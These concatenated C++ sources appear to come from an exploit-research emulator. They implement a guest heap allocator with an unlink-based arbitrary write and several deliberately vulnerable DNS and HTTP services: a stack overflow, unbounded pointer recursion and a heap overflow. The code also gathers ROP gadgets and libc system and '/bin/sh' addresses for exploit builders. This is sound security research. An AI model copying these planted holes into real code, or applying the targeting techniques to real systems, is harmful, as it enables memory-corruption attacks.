  CONNLAB_RETURN_IF_ERROR(Put(base_ + kOffEnd, base_ + size_));
  CONNLAB_RETURN_IF_ERROR(Put(base_ + kOffSecret, secret));
  CONNLAB_RETURN_IF_ERROR(Put(base_ + kOffFlags, integrity ? 1u : 0u));
  CONNLAB_RETURN_IF_ERROR(Put(base_ + kOffTopPrevInuse, 1u));
  for (std::uint32_t i = 0; i < kBins; ++i) {
    const mem::GuestAddr s = BinSentinel(i);
    CONNLAB_RETURN_IF_ERROR(Put(s + 12, s));  // fd = self (empty)
    CONNLAB_RETURN_IF_ERROR(Put(s + 16, s));  // bk = self
  }
  return util::OkStatus();
}

bool GuestHeap::Attached() const { return U32(base_ + kOffMagic) == kMagic; }

util::Status GuestHeap::Corruption(mem::GuestAddr chunk,
                                   const std::string& what) {
  ++stats_.corruptions;
  const std::string detail =
      "heap corruption at chunk " + Hex(chunk) + ": " + what;
  if (cpu_ != nullptr) {
    cpu_->PushEvent(vm::EventKind::kHeapCorruption, detail);
    cpu_->RequestStop(vm::StopReason::kHeapCorruption, detail);
  }
  return util::Aborted(detail);
}

util::Status GuestHeap::Unlink(mem::GuestAddr chunk) {
  const std::uint32_t fd = U32(chunk + 12);
  const std::uint32_t bk = U32(chunk + 16);
  if ((U32(base_ + kOffFlags) & 1u) != 0) {
    // Safe unlink: both neighbours must still point back at the chunk.
    if (U32(fd + 16) != chunk || U32(bk + 12) != chunk) {
      return Corruption(chunk, "unlink fd/bk mismatch (fd=" + Hex(fd) +
                                   " bk=" + Hex(bk) + ")");
    }
  }
  // The unlink write pair — through attacker-controlled fd/bk this is the
  // allocator-driven arbitrary write (mem[fd+16]=bk, mem[bk+12]=fd).
  CONNLAB_RETURN_IF_ERROR(Put(fd + 16, bk));
  CONNLAB_RETURN_IF_ERROR(Put(bk + 12, fd));
  return util::OkStatus();
}

util::Status GuestHeap::InsertFree(mem::GuestAddr chunk, std::uint32_t size,
                                   bool prev_inuse) {
  const std::uint32_t secret = U32(base_ + kOffSecret);
  const std::uint32_t size_field = size | (prev_inuse ? kPrevInuse : 0u);
  CONNLAB_RETURN_IF_ERROR(Put(chunk + 4, size_field));
  CONNLAB_RETURN_IF_ERROR(Put(chunk + 8, size ^ secret));
  // Boundary-tag footer + clear the next chunk's PREV_INUSE bit.
  const mem::GuestAddr next = chunk + size;
  CONNLAB_RETURN_IF_ERROR(Put(next + 0, size));
  CONNLAB_RETURN_IF_ERROR(Put(next + 4, U32(next + 4) & ~kPrevInuse));
  // Splice at the head of the size-class bin.
  const mem::GuestAddr s = BinSentinel(BinIndex(size));
  const std::uint32_t first = U32(s + 12);
  CONNLAB_RETURN_IF_ERROR(Put(chunk + 12, first));  // fd
  CONNLAB_RETURN_IF_ERROR(Put(chunk + 16, s));      // bk
  CONNLAB_RETURN_IF_ERROR(Put(first + 16, chunk));
  CONNLAB_RETURN_IF_ERROR(Put(s + 12, chunk));
  return util::OkStatus();
}

util::Result<mem::GuestAddr> GuestHeap::Alloc(std::uint32_t payload_bytes) {
  if (payload_bytes == 0) return util::InvalidArgument("zero-byte alloc");
  if (!Attached()) return util::FailedPrecondition("heap arena not formatted");
  std::uint32_t need = AlignUp(payload_bytes + kHeaderSize);
  if (need < kMinChunk) need = kMinChunk;
  const std::uint32_t secret = U32(base_ + kOffSecret);
  const bool integrity = (U32(base_ + kOffFlags) & 1u) != 0;

  // First fit over the size-class bins, smallest eligible class first.
  for (std::uint32_t i = BinIndex(need); i < kBins; ++i) {
    const mem::GuestAddr s = BinSentinel(i);
    mem::GuestAddr cur = U32(s + 12);
    for (std::uint32_t walked = 0; cur != s && cur != 0; ++walked) {
      if (walked > kMaxListWalk) {
        if (integrity) return Corruption(cur, "freelist cycle in bin");
        break;
      }
      const std::uint32_t size = U32(cur + 4) & kSizeMask;
      if (size < need) {
        cur = U32(cur + 12);
        continue;
      }
      CONNLAB_RETURN_IF_ERROR(Unlink(cur));
      const std::uint32_t prev_bit = U32(cur + 4) & kPrevInuse;
      if (size - need >= kMinChunk) {
        // Split: head becomes the allocation, tail goes back to a bin.
        ++stats_.splits;
        CONNLAB_RETURN_IF_ERROR(Put(cur + 4, need | prev_bit));
        CONNLAB_RETURN_IF_ERROR(Put(cur + 8, need ^ secret));
        CONNLAB_RETURN_IF_ERROR(
            InsertFree(cur + need, size - need, /*prev_inuse=*/true));
      } else {
        CONNLAB_RETURN_IF_ERROR(Put(cur + 4, size | prev_bit));
        CONNLAB_RETURN_IF_ERROR(Put(cur + 8, size ^ secret));
        // Whole chunk reused: the next chunk's PREV_INUSE comes back on.
        const mem::GuestAddr next = cur + size;
        if (next == U32(base_ + kOffTop)) {
          CONNLAB_RETURN_IF_ERROR(Put(base_ + kOffTopPrevInuse, 1u));
        } else {
          CONNLAB_RETURN_IF_ERROR(Put(next + 4, U32(next + 4) | kPrevInuse));
        }
      }
      ++stats_.allocs;
      return cur + kHeaderSize;
    }
  }

  // Carve from the wilderness.
  const mem::GuestAddr top = U32(base_ + kOffTop);
  const mem::GuestAddr end = U32(base_ + kOffEnd);
  if (top + need > end) {
    return util::ResourceExhausted("heap exhausted: need " +
                                   std::to_string(need) + " bytes above " +
                                   Hex(top));
  }
  const std::uint32_t prev_bit =
      (U32(base_ + kOffTopPrevInuse) & 1u) ? kPrevInuse : 0u;
  CONNLAB_RETURN_IF_ERROR(Put(top + 4, need | prev_bit));
  CONNLAB_RETURN_IF_ERROR(Put(top + 8, need ^ secret));
  CONNLAB_RETURN_IF_ERROR(Put(base_ + kOffTop, top + need));
  CONNLAB_RETURN_IF_ERROR(Put(base_ + kOffTopPrevInuse, 1u));
  ++stats_.allocs;
  return top + kHeaderSize;
}

util::Status GuestHeap::Free(mem::GuestAddr payload) {
  if (!Attached()) return util::FailedPrecondition("heap arena not formatted");
  const mem::GuestAddr first = FirstChunk();
  const mem::GuestAddr top = U32(base_ + kOffTop);
  if (payload < first + kHeaderSize || payload >= top + kHeaderSize) {
    return util::InvalidArgument("free of non-heap address " + Hex(payload));
  }
  mem::GuestAddr c = payload - kHeaderSize;
  const std::uint32_t secret = U32(base_ + kOffSecret);
  const bool integrity = (U32(base_ + kOffFlags) & 1u) != 0;

  std::uint32_t size_field = U32(c + 4);
  std::uint32_t size = size_field & kSizeMask;
  bool prev_inuse = (size_field & kPrevInuse) != 0;

  if (integrity) {
    if (U32(c + 8) != (size ^ secret)) {
      return Corruption(c, "chunk canary mismatch (size=" + Hex(size_field) +
                               " guard=" + Hex(U32(c + 8)) + ")");
    }
    if (size < kMinChunk || (size & 7u) != 0 || c + size > top) {
      return Corruption(c, "implausible chunk size " + Hex(size));
    }
  }

  // Backward coalesce: boundary tag says the previous chunk is free.
  if (!prev_inuse) {
    const std::uint32_t psz = U32(c + 0);
    const mem::GuestAddr prev = c - psz;
    if (integrity) {
      if (psz < kMinChunk || (psz & 7u) != 0 || prev < first ||
          (U32(prev + 4) & kSizeMask) != psz) {
        return Corruption(c, "prev_size/boundary-tag mismatch (prev_size=" +
                                 Hex(psz) + ")");
      }
      if (U32(prev + 8) != (psz ^ secret)) {
        return Corruption(prev, "chunk canary mismatch on coalesce target");
      }
    }
    CONNLAB_RETURN_IF_ERROR(Unlink(prev));
    ++stats_.coalesces;
    size += psz;
    c = prev;
    prev_inuse = (U32(c + 4) & kPrevInuse) != 0;
  }

  // Forward coalesce: absorb a free right-neighbour (or the wilderness).
  mem::GuestAddr next = c + size;
  if (next < top) {
    const std::uint32_t next_size = U32(next + 4) & kSizeMask;
    const mem::GuestAddr nn = next + next_size;
    const bool next_inuse =
        (nn == top) ? (U32(base_ + kOffTopPrevInuse) & 1u) != 0
                    : (nn < top && (U32(nn + 4) & kPrevInuse) != 0);
    if (!next_inuse && next_size >= kMinChunk) {
      if (integrity && U32(next + 8) != (next_size ^ secret)) {
        return Corruption(next, "chunk canary mismatch on forward coalesce");
      }
      CONNLAB_RETURN_IF_ERROR(Unlink(next));
      ++stats_.coalesces;
      size += next_size;
      next = c + size;
    }
  }

  ++stats_.frees;
  if (next >= top) {
    // Chunk borders the wilderness: give it back to the top.
    CONNLAB_RETURN_IF_ERROR(Put(base_ + kOffTop, c));
    CONNLAB_RETURN_IF_ERROR(
        Put(base_ + kOffTopPrevInuse, prev_inuse ? 1u : 0u));
    return util::OkStatus();
  }
  return InsertFree(c, size, prev_inuse);
}

util::Result<std::uint32_t> GuestHeap::PayloadSize(
    mem::GuestAddr payload) const {
  if (payload < FirstChunk() + kHeaderSize) {
    return util::InvalidArgument("not a heap payload address");
  }
  const std::uint32_t size = U32(payload - kHeaderSize + 4) & kSizeMask;
  if (size < kMinChunk) return util::InvalidArgument("corrupt chunk size");
  return size - kHeaderSize;
}

std::vector<GuestHeap::ChunkInfo> GuestHeap::Walk() const {
  std::vector<ChunkInfo> out;
  if (!Attached()) return out;
  const mem::GuestAddr top = U32(base_ + kOffTop);
  mem::GuestAddr c = FirstChunk();
  while (c < top && out.size() < kMaxListWalk) {
    const std::uint32_t size = U32(c + 4) & kSizeMask;
    if (size < kMinChunk || c + size > top) break;  // corrupt tag: stop
    const mem::GuestAddr next = c + size;
    const bool in_use = (next == top)
                            ? (U32(base_ + kOffTopPrevInuse) & 1u) != 0
                            : (U32(next + 4) & kPrevInuse) != 0;
    out.push_back({c, size, in_use});
    c = next;
  }
  return out;
}

}  // namespace connlab::heap
