// "resolvd" — a GNUnet-flavoured recursive name expander with unchecked
// compression-pointer following (the GNUnet DNS parser blueprint: recursion
// per label/pointer, no loop guard, no hop budget). The bug class is
// control-flow-free: a self-referential pointer recurses until the guest
// stack mapping is exhausted (write fault), and a pointer past the packet
// reads out of the receive buffer's segment (read fault). No return address
// is ever overwritten, so canaries, CFI and diversity have nothing to
// catch — only the crash itself is observable. That is the bug class the
// six stack-smash attacks in the matrix do not cover.
#pragma once

#include "src/adapt/minimasq.hpp"
#include "src/dns/message.hpp"
#include "src/exploit/profile.hpp"
#include "src/loader/boot.hpp"

namespace connlab::adapt {

class Resolvd {
 public:
  /// Guest stack bytes one expansion step consumes (the recursion frame:
  /// saved offset, saved registers, the label scratch — GNUnet's
  /// parse_name allocates per level).
  static constexpr std::uint32_t kFrameBytes = 64;

  explicit Resolvd(loader::System& sys) : sys_(sys) {}

  /// The vulnerable path: expands the question name of `wire`, following
  /// compression pointers recursively with no visited-set and no hop
  /// budget. Each step writes a real kFrameBytes frame to the guest stack.
  ServiceOutcome HandleQuery(util::ByteSpan wire);

  /// Retargeting stub: the bug class needs no addresses at all (the DoS
  /// packet is pure wire bytes), so only arch/prot carry information.
  [[nodiscard]] util::Result<exploit::TargetProfile> ProfileFor() const;

  /// Recursion depth of the last HandleQuery (frames actually pushed).
  [[nodiscard]] std::uint32_t last_hops() const noexcept { return last_hops_; }
  /// Expanded-name bytes of the last HandleQuery.
  [[nodiscard]] std::uint32_t last_expanded() const noexcept {
    return last_expanded_;
  }

  [[nodiscard]] loader::System& system() noexcept { return sys_; }

  /// The pointer-loop DoS packet: a query whose question name is a
  /// compression pointer to its own offset — one packet, unbounded
  /// recursion (Technique::kPointerLoopDos).
  static util::Bytes SelfPointerQuery(std::uint16_t id);
  /// The OOB-read variant: the pointer targets an offset far past the
  /// packet (and past the receive segment).
  static util::Bytes WildPointerQuery(std::uint16_t id);

 private:
  loader::System& sys_;
  std::uint32_t last_hops_ = 0;
  std::uint32_t last_expanded_ = 0;
  std::uint64_t budget_ = 200000;
};

}  // namespace connlab::adapt
