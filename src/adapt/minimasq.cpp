#include "src/adapt/minimasq.hpp"

#include "src/dns/name.hpp"
#include "src/gadget/finder.hpp"
#include "src/gadget/memstr.hpp"
#include "src/isa/varm.hpp"

namespace connlab::adapt {

std::string_view ServiceOutcomeKindName(ServiceOutcome::Kind kind) {
  switch (kind) {
    case ServiceOutcome::Kind::kOk: return "ok";
    case ServiceOutcome::Kind::kRejected: return "rejected";
    case ServiceOutcome::Kind::kCrash: return "crash";
    case ServiceOutcome::Kind::kShell: return "root-shell";
    case ServiceOutcome::Kind::kExec: return "exec";
    case ServiceOutcome::Kind::kAbort: return "abort";
    case ServiceOutcome::Kind::kOther: return "other";
  }
  return "?";
}

ServiceOutcome ServiceOutcomeFromStop(const vm::StopInfo& stop) {
  ServiceOutcome outcome;
  outcome.stop = stop;
  switch (stop.reason) {
    case vm::StopReason::kHalted:
      outcome.kind = ServiceOutcome::Kind::kOk;
      outcome.detail = "reply processed";
      break;
    case vm::StopReason::kShellSpawned:
      outcome.kind = ServiceOutcome::Kind::kShell;
      outcome.detail = stop.detail;
      break;
    case vm::StopReason::kProcessExec:
      outcome.kind = ServiceOutcome::Kind::kExec;
      outcome.detail = stop.detail;
      break;
    case vm::StopReason::kFault:
      outcome.kind = ServiceOutcome::Kind::kCrash;
      outcome.detail = stop.detail;
      break;
    case vm::StopReason::kAbort:
    case vm::StopReason::kCfiViolation:
    case vm::StopReason::kHeapCorruption:
      outcome.kind = ServiceOutcome::Kind::kAbort;
      outcome.detail = stop.detail;
      break;
    default:
      outcome.kind = ServiceOutcome::Kind::kOther;
      outcome.detail = stop.ToString();
      break;
  }
  return outcome;
}

Minimasq::Minimasq(loader::System& sys) : sys_(sys) {
  frame_base_ = sys_.layout.initial_sp() - (ret_offset() + 4);
}

std::uint32_t Minimasq::ret_offset() const noexcept {
  const std::uint32_t saved =
      sys_.arch == isa::Arch::kVX86 ? 16u : 32u;  // like the main target
  return kBufSize + kLocals + saved;
}

util::Status Minimasq::ForwardQuery(util::ByteSpan wire) {
  CONNLAB_ASSIGN_OR_RETURN(dns::Message query, dns::Decode(wire));
  if (query.header.qr) return util::InvalidArgument("not a query");
  pending_[query.header.id] = true;
  return util::OkStatus();
}

ServiceOutcome Minimasq::HandleReply(util::ByteSpan wire) {
  ServiceOutcome outcome;
  if (wire.size() < dns::kHeaderSize) {
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "short packet";
    return outcome;
  }
  const std::uint16_t id =
      static_cast<std::uint16_t>((wire[0] << 8) | wire[1]);
  if (!pending_.contains(id) || (wire[2] & 0x80) == 0) {
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "id/flag mismatch";
    return outcome;
  }
  const std::uint16_t qdcount =
      static_cast<std::uint16_t>((wire[4] << 8) | wire[5]);
  const std::uint16_t ancount =
      static_cast<std::uint16_t>((wire[6] << 8) | wire[7]);

  // Stage a fresh frame: zeroed region, benign saved regs, sentinel return.
  auto& space = sys_.space;
  const std::uint32_t region = sys_.layout.stack_top - frame_base_;
  if (!space.WriteBytes(frame_base_, util::Bytes(region, 0)).ok()) {
    outcome.detail = "failed to stage frame";
    return outcome;
  }
  auto resume = sys_.Sym("connman.resume_ok");
  if (!resume.ok() ||
      !space.WriteU32(frame_base_ + ret_offset(), resume.value()).ok()) {
    outcome.detail = "failed to plant return";
    return outcome;
  }

  // Skip questions (well-formed walker for the skip, like dnsmasq).
  std::size_t pos = dns::kHeaderSize;
  for (int q = 0; q < qdcount; ++q) {
    auto name = dns::DecodeName(wire, pos);
    if (!name.ok()) {
      outcome.kind = ServiceOutcome::Kind::kRejected;
      outcome.detail = "bad question";
      return outcome;
    }
    pos += name.value().wire_len + 4;
  }

  // The vulnerable expansion of the first answer's name: no bound check on
  // the 512-byte buffer.
  if (ancount > 0) {
    std::uint32_t written = 0;
    while (pos < wire.size()) {
      const std::uint8_t len = wire[pos];
      if (len == 0) break;
      if ((len & dns::kCompressionFlags) != 0) {
        outcome.kind = ServiceOutcome::Kind::kRejected;
        outcome.detail = "pointer in reply name (unsupported)";
        return outcome;
      }
      if (pos + 1 + len > wire.size()) break;
      util::Bytes chunk(wire.begin() + static_cast<std::ptrdiff_t>(pos),
                        wire.begin() + static_cast<std::ptrdiff_t>(pos + 1 + len));
      if (!space.WriteBytes(frame_base_ + written, chunk).ok()) {
        outcome.kind = ServiceOutcome::Kind::kCrash;
        outcome.detail = "expansion ran off the stack";
        outcome.stop.reason = vm::StopReason::kFault;
        outcome.stop.fault = space.last_fault();
        space.ClearFault();
        return outcome;
      }
      written += 1 + len;
      pos += 1 + len;
    }
  }

  // Epilogue through the guest frame.
  auto& cpu = *sys_.cpu;
  cpu.ClearEvents();
  if (sys_.arch == isa::Arch::kVARM) {
    for (int i = 0; i < 8; ++i) {
      cpu.set_reg(static_cast<std::uint8_t>(isa::kR4 + i),
                  space.ReadU32(frame_base_ + kBufSize + kLocals +
                                4 * static_cast<std::uint32_t>(i))
                      .value_or(0));
    }
  }
  auto ret = space.ReadU32(frame_base_ + ret_offset());
  if (!ret.ok()) {
    outcome.detail = "return slot unreadable";
    return outcome;
  }
  cpu.set_sp(frame_base_ + ret_offset() + 4);
  cpu.set_pc(ret.value());
  ServiceOutcome result = ServiceOutcomeFromStop(cpu.Run(budget_));
  if (result.kind == ServiceOutcome::Kind::kOk) pending_.erase(id);
  return result;
}

util::Result<exploit::TargetProfile> Minimasq::ProfileFor() const {
  exploit::TargetProfile profile;
  profile.arch = sys_.arch;
  profile.prot = sys_.prot;
  profile.ret_offset = ret_offset();          // the "changed variable"
  profile.buffer_addr = frame_base_;
  CONNLAB_ASSIGN_OR_RETURN(profile.plt_memcpy, sys_.Sym("plt.memcpy"));
  CONNLAB_ASSIGN_OR_RETURN(profile.plt_execlp, sys_.Sym("plt.execlp"));
  CONNLAB_ASSIGN_OR_RETURN(profile.bss, sys_.Sym("bss.start"));
  CONNLAB_ASSIGN_OR_RETURN(profile.libc_system, sys_.Sym("libc.system"));
  CONNLAB_ASSIGN_OR_RETURN(profile.libc_exit, sys_.Sym("libc.exit"));
  CONNLAB_ASSIGN_OR_RETURN(profile.libc_binsh, sys_.Sym("libc.str.bin_sh"));
  gadget::Finder finder(sys_);
  if (sys_.arch == isa::Arch::kVX86) {
    CONNLAB_ASSIGN_OR_RETURN(gadget::Gadget pppr, finder.FindPopRet(4));
    profile.gadget_pop_ret4 = pppr.addr;
  } else {
    const std::uint16_t need = isa::varm::Mask(
        {isa::kR0, isa::kR1, isa::kR2, isa::kR3, isa::kR5, isa::kR6, isa::kR7});
    CONNLAB_ASSIGN_OR_RETURN(gadget::Gadget pops, finder.FindPopRegsPc(need));
    profile.gadget_pop_regs = pops.addr;
    profile.gadget_pop_mask = pops.instrs.front().reg_mask;
    CONNLAB_ASSIGN_OR_RETURN(gadget::Gadget blx, finder.FindBlx(isa::kR3));
    profile.gadget_blx_r3 = blx.addr;
  }
  gadget::MemStr memstr(sys_);
  for (char c : std::string("/bin/sh")) {
    CONNLAB_ASSIGN_OR_RETURN(mem::GuestAddr addr, memstr.FindChar(c));
    profile.char_addrs[c] = addr;
  }
  // No parse_rr quirks and no cleanup slots in this service: the fixup
  // maps stay empty — the payloads simply have fewer constraints.
  return profile;
}

}  // namespace connlab::adapt
