// "minimasq" — a dnsmasq-flavoured DNS forwarder with its own stack-based
// name-expansion overflow (CVE-2017-14493 analogue), used to reproduce §V:
// the Connman exploit code works against other DNS-based overflows "with
// minimal modification (basic changes such as changing variables to memory
// addresses suitable for the targeted vulnerability)".
//
// Differences from the Connman target, on purpose:
//  * 512-byte reply buffer (vs 1024) and 24 bytes of locals — different
//    ret offset;
//  * no parse_rr quirks and no cleanup slots — a plainer frame;
//  * laxer header validation (dnsmasq-style: id echo only).
// The exploit builders consume a TargetProfile, so retargeting is exactly
// the paper's "change the addresses" step.
#pragma once

#include <map>

#include "src/dns/message.hpp"
#include "src/exploit/profile.hpp"
#include "src/loader/boot.hpp"
#include "src/vm/cpu.hpp"

namespace connlab::adapt {

/// Shared outcome type for the adapted services.
struct ServiceOutcome {
  enum class Kind : std::uint8_t {
    kOk,
    kRejected,
    kCrash,
    kShell,
    kExec,
    kAbort,  // a mitigation trapped: canary, CFI or heap-integrity stop
    kOther,
  };
  Kind kind = Kind::kOther;
  std::string detail;
  vm::StopInfo stop;
};

std::string_view ServiceOutcomeKindName(ServiceOutcome::Kind kind);

/// The shared StopInfo -> ServiceOutcome classification every adapted
/// service uses after running the guest.
ServiceOutcome ServiceOutcomeFromStop(const vm::StopInfo& stop);

class Minimasq {
 public:
  static constexpr std::uint32_t kBufSize = 512;
  static constexpr std::uint32_t kLocals = 24;

  explicit Minimasq(loader::System& sys);

  /// Offset of the saved return address from buf[0] for this build.
  [[nodiscard]] std::uint32_t ret_offset() const noexcept;

  /// Registers a pending forward (dnsmasq tracks only the transaction id).
  util::Status ForwardQuery(util::ByteSpan wire);

  /// The vulnerable reply path: expands the first answer's name into the
  /// 512-byte stack buffer with no bound check, then returns through the
  /// guest frame.
  ServiceOutcome HandleReply(util::ByteSpan wire);

  /// The "minimal modification": a TargetProfile for this service, derived
  /// from its geometry and the image's symbols/gadgets — everything the
  /// Connman exploit builders need, nothing else changed.
  [[nodiscard]] util::Result<exploit::TargetProfile> ProfileFor() const;

  [[nodiscard]] loader::System& system() noexcept { return sys_; }

 private:
  loader::System& sys_;
  mem::GuestAddr frame_base_;
  std::map<std::uint16_t, bool> pending_;
  std::uint64_t budget_ = 200000;
};

}  // namespace connlab::adapt
