#include "src/adapt/camstored.hpp"

#include <cstdlib>

namespace connlab::adapt {

namespace {

/// Header value as unsigned long, 0 if absent.
std::size_t HeaderValue(const std::string& text, const std::string& key,
                        std::size_t headers_end, bool* present = nullptr) {
  const std::size_t pos = text.find(key);
  if (present != nullptr) *present = pos != std::string::npos && pos < headers_end;
  if (pos == std::string::npos || pos > headers_end) return 0;
  return static_cast<std::size_t>(
      std::strtoul(text.c_str() + pos + key.size(), nullptr, 10));
}

}  // namespace

Camstored::Camstored(loader::System& sys)
    : sys_(sys),
      heap_(sys.space, sys.layout.heap_base, sys.layout.heap_size) {
  heap_.AttachCpu(sys_.cpu.get());
  if (!heap_.Attached()) {
    // Fresh boot: format the arena and carve the daemon state block. A
    // snapshot-restored System carries the arena (and the state block) in
    // its restored guest memory, so this runs exactly once per boot.
    const std::uint32_t secret = heap::ChunkSecret(sys_.boot_seed);
    if (!heap_.Init(secret, sys_.prot.heap_integrity).ok()) return;
    auto state = heap_.Alloc(kStateBytes);
    if (!state.ok()) return;
    auto hook = sys_.Sym("connman.resume_ok");
    if (hook.ok()) {
      (void)sys_.space.WriteU32(state.value(), hook.value());
    }
    (void)sys_.space.WriteU32(state.value() + 4, 0);  // record counter
  }
}

util::Bytes Camstored::WrapInPut(util::ByteSpan body, const std::string& name,
                                 std::uint32_t record_size) {
  util::ByteWriter w;
  w.WriteString("PUT /cache/" + name + " HTTP/1.0\r\n");
  w.WriteString("Host: camera.lan\r\n");
  w.WriteString("X-Record-Size: " + std::to_string(record_size) + "\r\n");
  w.WriteString("Content-Length: " + std::to_string(body.size()) + "\r\n");
  w.WriteString("\r\n");
  w.WriteBytes(body);
  return std::move(w).Take();
}

util::Bytes Camstored::WrapInDelete(const std::string& name) {
  util::ByteWriter w;
  w.WriteString("DELETE /cache/" + name + " HTTP/1.0\r\n");
  w.WriteString("Host: camera.lan\r\n");
  w.WriteString("\r\n");
  return std::move(w).Take();
}

ServiceOutcome Camstored::HandleRequest(util::ByteSpan request) {
  ServiceOutcome outcome;
  last_response_.clear();
  const std::string text(request.begin(), request.end());
  const std::size_t headers_end = text.find("\r\n\r\n");
  if (headers_end == std::string::npos) {
    last_response_ = "HTTP/1.0 400 Bad Request\r\n\r\n";
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "malformed request";
    return outcome;
  }
  if (text.compare(0, 4, "GET ") == 0) {
    last_response_ = "HTTP/1.0 200 OK\r\n\r\ncamstored: " +
                     std::to_string(records_.size()) + " records";
    outcome.kind = ServiceOutcome::Kind::kOk;
    outcome.detail = "GET served";
    return outcome;
  }

  const bool is_put = text.compare(0, 11, "PUT /cache/") == 0;
  const bool is_delete = text.compare(0, 14, "DELETE /cache/") == 0;
  if (!is_put && !is_delete) {
    last_response_ = "HTTP/1.0 405 Method Not Allowed\r\n\r\n";
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "unsupported verb";
    return outcome;
  }
  const std::size_t name_start = is_put ? 11 : 14;
  const std::size_t name_end = text.find(' ', name_start);
  if (name_end == std::string::npos || name_end == name_start ||
      name_end - name_start > 64) {
    last_response_ = "HTTP/1.0 400 Bad Request\r\n\r\n";
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "bad record name";
    return outcome;
  }
  const std::string name = text.substr(name_start, name_end - name_start);

  if (is_delete) return HandleDelete(name);

  bool has_clen = false;
  const std::size_t content_length =
      HeaderValue(text, "Content-Length:", headers_end, &has_clen);
  if (!has_clen) {
    last_response_ = "HTTP/1.0 411 Length Required\r\n\r\n";
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "no content-length";
    return outcome;
  }
  bool has_size = false;
  std::size_t record_size =
      HeaderValue(text, "X-Record-Size:", headers_end, &has_size);
  if (!has_size) record_size = content_length;  // benign default
  if (record_size == 0 || record_size > 0x10000) {
    last_response_ = "HTTP/1.0 400 Bad Request\r\n\r\n";
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "implausible record size";
    return outcome;
  }
  const std::size_t body_start = headers_end + 4;
  const std::size_t body_avail = request.size() - body_start;
  const std::size_t body_len =
      content_length < body_avail ? content_length : body_avail;
  return HandlePut(name,
                   util::ByteSpan(request.data() + body_start, body_len),
                   static_cast<std::uint32_t>(record_size));
}

ServiceOutcome Camstored::HandlePut(const std::string& name,
                                    util::ByteSpan body,
                                    std::uint32_t record_size) {
  ServiceOutcome outcome;
  auto& space = sys_.space;

  mem::GuestAddr dest = 0;
  mem::GuestAddr stale = 0;
  const auto it = records_.find(name);
  if (it != records_.end()) {
    const std::uint32_t old_size =
        heap_.PayloadSize(it->second).value_or(0);
    if (record_size <= old_size) {
      // In-place update: the existing chunk is "big enough" by the
      // *claimed* size. The body copy below still trusts Content-Length.
      dest = it->second;
    } else {
      stale = it->second;
    }
  } else if (records_.size() >= kMaxRecords) {
    last_response_ = "HTTP/1.0 507 Insufficient Storage\r\n\r\n";
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "record table full";
    return outcome;
  }
  if (dest == 0) {
    auto alloc = heap_.Alloc(record_size);
    if (!alloc.ok()) {
      last_response_ = "HTTP/1.0 507 Insufficient Storage\r\n\r\n";
      outcome.kind = ServiceOutcome::Kind::kRejected;
      outcome.detail = "heap exhausted: " + alloc.status().ToString();
      return outcome;
    }
    dest = alloc.value();
  }

  // THE BUG: the allocation was sized by X-Record-Size, the copy is sized
  // by Content-Length — no cross-check. An oversized body runs off the
  // chunk and rewrites the next chunk's boundary tags in guest memory.
  if (!space.WriteBytes(dest, body).ok()) {
    outcome.kind = ServiceOutcome::Kind::kCrash;
    outcome.detail = "record copy ran off the heap mapping";
    outcome.stop.reason = vm::StopReason::kFault;
    outcome.stop.fault = space.last_fault();
    space.ClearFault();
    return outcome;
  }
  records_[name] = dest;

  if (stale != 0) {
    // The record moved: release the old chunk. Freeing is where corrupted
    // neighbour metadata detonates (unlink) or gets detected (integrity).
    ServiceOutcome freed = FreeRecord(stale);
    if (freed.kind != ServiceOutcome::Kind::kOk) return freed;
  }
  return CallFlushHook();
}

ServiceOutcome Camstored::HandleDelete(const std::string& name) {
  ServiceOutcome outcome;
  const auto it = records_.find(name);
  if (it == records_.end()) {
    last_response_ = "HTTP/1.0 404 Not Found\r\n\r\n";
    outcome.kind = ServiceOutcome::Kind::kRejected;
    outcome.detail = "no such record";
    return outcome;
  }
  const mem::GuestAddr payload = it->second;
  records_.erase(it);
  ServiceOutcome freed = FreeRecord(payload);
  if (freed.kind != ServiceOutcome::Kind::kOk) return freed;
  return CallFlushHook();
}

ServiceOutcome Camstored::FreeRecord(mem::GuestAddr payload) {
  ServiceOutcome outcome;
  auto& cpu = *sys_.cpu;
  cpu.ClearEvents();
  util::Status freed = heap_.Free(payload);
  if (freed.ok()) {
    outcome.kind = ServiceOutcome::Kind::kOk;
    outcome.detail = "record freed";
    return outcome;
  }
  if (freed.code() == util::StatusCode::kAborted) {
    // The integrity checks fired: the CPU already carries the
    // kHeapCorruption stop request — surface it as the outcome.
    outcome.kind = ServiceOutcome::Kind::kAbort;
    outcome.detail = freed.message();
    outcome.stop.reason = vm::StopReason::kHeapCorruption;
    outcome.stop.detail = freed.message();
    cpu.ClearStop();
    return outcome;
  }
  // The unlink write itself faulted (unmapped / read-only destination).
  outcome.kind = ServiceOutcome::Kind::kCrash;
  outcome.detail = "free faulted: " + freed.message();
  outcome.stop.reason = vm::StopReason::kFault;
  outcome.stop.fault = sys_.space.last_fault();
  sys_.space.ClearFault();
  return outcome;
}

ServiceOutcome Camstored::CallFlushHook() {
  ServiceOutcome outcome;
  auto& space = sys_.space;
  auto& cpu = *sys_.cpu;
  auto hook = space.ReadU32(HookSlot());
  if (!hook.ok()) {
    outcome.detail = "hook slot unreadable";
    return outcome;
  }
  // Bump the record counter, then the forward-edge indirect call. No
  // return address is involved, so shadow-stack CFI never inspects it.
  const std::uint32_t count = space.ReadU32(HookSlot() + 4).value_or(0);
  (void)space.WriteU32(HookSlot() + 4, count + 1);
  cpu.ClearEvents();
  cpu.set_sp(sys_.layout.initial_sp());
  cpu.set_pc(hook.value());
  outcome = ServiceOutcomeFromStop(cpu.Run(budget_));
  if (outcome.kind == ServiceOutcome::Kind::kOk) {
    last_response_ = "HTTP/1.0 200 OK\r\n\r\nrecord stored";
    outcome.detail = "record stored";
  }
  return outcome;
}

util::Result<exploit::TargetProfile> Camstored::ProfileFor() const {
  exploit::TargetProfile profile;
  profile.arch = sys_.arch;
  profile.prot = sys_.prot;
  profile.heap_hook_slot = HookSlot();
  profile.heap_user_base = UserBase();
  return profile;
}

}  // namespace connlab::adapt
