#include "src/adapt/resolvd.hpp"

#include "src/dns/name.hpp"

